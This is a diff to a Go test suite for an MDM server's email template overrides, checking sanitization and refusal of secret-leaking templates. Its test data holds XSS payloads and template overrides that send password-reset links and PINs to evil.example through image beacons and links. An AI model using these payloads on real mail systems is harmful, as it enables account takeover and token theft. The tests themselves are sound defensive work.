@@ -7,7 +7,9 @@ import (
 	"testing"
 	"time"
 
+	"steward/internal/authz"
 	"steward/internal/mdm"
+	"steward/internal/secret"
 )
 
 type emailTemplateSummary struct {
@@ -61,13 +63,16 @@ func mailBody(raw string) string {
 
 // hostileHTML is an override that tries every way of putting active content into a mail.
 const hostileHTML = `<p>Custom welcome {{.FirstName}}</p><p>Code <b>{{.PIN}}</b></p><script>alert(1)</script>` +
-	`<img src="https://cdn.example.com/logo.png" onerror="alert(2)"><a href="javascript:alert(3)">x</a>` +
+	`<p onmouseover="alert(2)">Hi</p><a href="javascript:alert(3)">x</a>` +
 	`<a href="{{.RegisterURL}}" onclick="alert(4)">Register</a><iframe src="https://evil.example"></iframe>`
+
+// remoteImage is refused in invitation_pin (it carries a PIN), and dropped if it was stored anyway.
+const remoteImage = `<img src="https://cdn.example.com/logo.png" alt="Logo">`
 
 func wantNoActiveContent(t *testing.T, where, html string) {
 	t.Helper()
 	lower := strings.ToLower(html)
-	for _, bad := range []string{"<script", "alert(", "onerror", "onclick", "javascript:", "<iframe"} {
+	for _, bad := range []string{"<script", "alert(", "onerror", "onclick", "onmouseover", "javascript:", "<iframe"} {
 		if strings.Contains(lower, bad) {
 			t.Errorf("%s contains %q", where, bad)
 		}
@@ -124,6 +129,7 @@ func TestEmailTemplates(t *testing.T) {
 		{"text", "No code here", "text", "{{.PIN}}"},
 		{"html", "<p>No code here</p>", "html", "{{.PIN}}"},
 		{"html", "{{.PIN}}" + strings.Repeat("x", 65<<10), "html", "64 KiB"},
+		{"html", hostileHTML + remoteImage, "html", "images"},
 	}
 	for _, tc := range bad {
 		src := map[string]string{}
@@ -187,8 +193,8 @@ func TestEmailTemplates(t *testing.T) {
 		!regexp.MustCompile(`<b>[0-9]{9}</b>`).MatchString(msgA) || !strings.Contains(msgA, "Custom welcome Sam") {
 		t.Errorf("A's user did not get A's override with a 9-digit PIN:\n%s", msgA)
 	}
-	if !strings.Contains(msgA, `src="https://cdn.example.com/logo.png"`) {
-		t.Error("allowed markup (an https image) was stripped")
+	if !regexp.MustCompile(`<a href="https?://[^"]+/go">Register</a>`).MatchString(msgA) {
+		t.Errorf("allowed markup (a link) was stripped:\n%s", msgA)
 	}
 	wantNoActiveContent(t, "A's sent mail", msgA)
 	msgB := mailBody(box.wait(t, regexp.MustCompile("(?i)to: .*bo@tplbeta.example.com")))
@@ -214,7 +220,7 @@ func TestEmailTemplates(t *testing.T) {
 	// Even a source that reached the database unsanitized (written past the API) is cleaned when mail is
 	// rendered: the sanitizer also runs on every rendered mail.
 	if err := e.srv.Store().EmailTemplates().Put(t.Context(), mdm.TenantID(tenantA.ID), mdm.EmailTemplate{Name: "invitation_pin",
-		Subject: "Raw", HTML: hostileHTML, Text: "Raw code {{.PIN}}", ModifiedAt: time.Now(), ModifiedBy: "test"}); err != nil {
+		Subject: "Raw", HTML: hostileHTML + remoteImage, Text: "Raw code {{.PIN}}", ModifiedAt: time.Now(), ModifiedBy: "test"}); err != nil {
 		t.Fatal(err)
 	}
 	e.call("POST", "/api/v1/accounts?sendInvite=true", a, `{"accounts":[{"emailAddress":"raw@tplalpha.example.com","firstName":"Raw"}]}`).must(t, 200, nil)
@@ -223,6 +229,9 @@ func TestEmailTemplates(t *testing.T) {
 		t.Errorf("the stored override was not used:\n%s", raw)
 	}
 	wantNoActiveContent(t, "mail rendered from an unsanitized stored source", raw)
+	if strings.Contains(raw, "<img") || strings.Contains(raw, "cdn.example.com") {
+		t.Error("a PIN mail rendered from a stored source kept a remote image")
+	}
 	e.call("DELETE", "/api/v1/emailtemplates/invitation_pin", a, "").must(t, 200, nil)
 
 	// Save and reset are audited, in A's trail only.
@@ -244,5 +253,66 @@ func TestEmailTemplates(t *testing.T) {
 		if strings.HasPrefix(r.Action, "email_template.") {
 			t.Errorf("B's trail holds %+v", r)
 		}
+	}
+}
+
+// TestEmailTemplateOverrideCannotLeakSecrets is the review's scenario: an administrator with only
+// System Management tries to make the password reset mail send its one-time link (and the invitation
+// its PIN) to another host. Every attempt is a 400 on html naming the field, nothing is stored or
+// audited, and the Tenant Admin's reset mail, asked for anonymously, goes out with the default.
+func TestEmailTemplateOverrideCannotLeakSecrets(t *testing.T) {
+	box := startInbox(t, "127.0.0.1:0")
+	e := newAPIEnv(t, "", func(c *Config) { c.SMTPURL = "smtp://" + box.addr })
+	tenant, ta := e.createTenant("Leakcheck")
+	now := time.Now()
+	sm := mdm.Account{TenantID: mdm.TenantID(tenant.ID), Username: "sm@leakcheck.example.com", Email: "sm@leakcheck.example.com",
+		FirstName: "Sys", LastName: "Man", PasswordHash: secret.HashPassword("System-mgmt-pw-1"), Roles: []string{authz.RoleSystemManagement},
+		Enabled: true, CreatedAt: now, ModifiedAt: now}
+	if err := e.srv.Store().InTx(t.Context(), func(tx mdm.Stores) error { return tx.Accounts().Create(t.Context(), &sm) }); err != nil {
+		t.Fatal(err)
+	}
+	auth := "sm@leakcheck.example.com:System-mgmt-pw-1"
+
+	attempts := []struct{ name, html, text, field string }{
+		{"password_request", `<p>Reset: {{.Link}}</p><img src="https://evil.example/p.gif?l={{.Link}}">`, "{{.Link}}", "{{.Link}}"},
+		{"password_request", `<p>Reset: {{.Link}}</p><a href="https://evil.example/?{{.Link}}">help</a>`, "{{.Link}}", "{{.Link}}"},
+		{"password_request", `{{with .Link}}<a href="https://evil.example/?{{.}}">Reset</a>{{end}}{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}"},
+		{"invitation_pin", `<a href="https://evil.example/?{{.PIN}}">help</a>{{template "code" .PIN}}`, "{{.PIN}}", "{{.PIN}}"},
+		{"admin_invitation", `{{$l := .Link}}<a href="https://evil.example/?{{$l}}">x</a>{{template "fallback" .Link}}`, "{{.Link}}", "{{.Link}}"},
+	}
+	for _, at := range attempts {
+		body := jsonBody(t, map[string]string{"subject": "Hello {{.TenantName}}", "html": at.html, "text": at.text})
+		for _, call := range [][2]string{{"PUT", ""}, {"POST", "/preview"}} {
+			r := e.call(call[0], "/api/v1/emailtemplates/"+at.name+call[1], auth, body)
+			if r.Status != 400 || r.field() != "html" || !strings.Contains(r.Body, at.field) {
+				t.Errorf("%s %s %.60q: %d %.300s", call[0], at.name, at.html, r.Status, r.Body)
+			}
+		}
+	}
+	// The subject may not carry the secret at all.
+	r := e.call("PUT", "/api/v1/emailtemplates/password_request", auth,
+		jsonBody(t, map[string]string{"subject": "Reset {{.Link}}", "html": "<p>{{.Link}}</p>", "text": "{{.Link}}"}))
+	if r.Status != 400 || r.field() != "subject" || !strings.Contains(r.Body, "{{.Link}}") {
+		t.Errorf("secret in the subject: %d %.300s", r.Status, r.Body)
+	}
+
+	for name, isCustom := range customized(t, e, auth) {
+		if isCustom {
+			t.Errorf("%s was stored", name)
+		}
+	}
+	var trail struct{ SearchResults []struct{ Action string } }
+	e.call("GET", "/api/v1/audit?rows=500", ta, "").must(t, 200, &trail)
+	for _, a := range trail.SearchResults {
+		if strings.HasPrefix(a.Action, "email_template.") {
+			t.Errorf("audit holds %s", a.Action)
+		}
+	}
+
+	// The takeover's next step finds nothing: the Tenant Admin's reset link reaches only the Tenant Admin.
+	e.call("POST", "/api/v1/selfservice/password", "", `{"emailAddress":"ta@leakcheck.example.com"}`).must(t, 202, nil)
+	msg := mailBody(box.wait(t, toLine("ta@leakcheck.example.com")))
+	if strings.Contains(msg, "evil.example") || !strings.Contains(msg, "/go/reset?token=") {
+		t.Errorf("reset mail:\n%s", msg)
 	}
 }
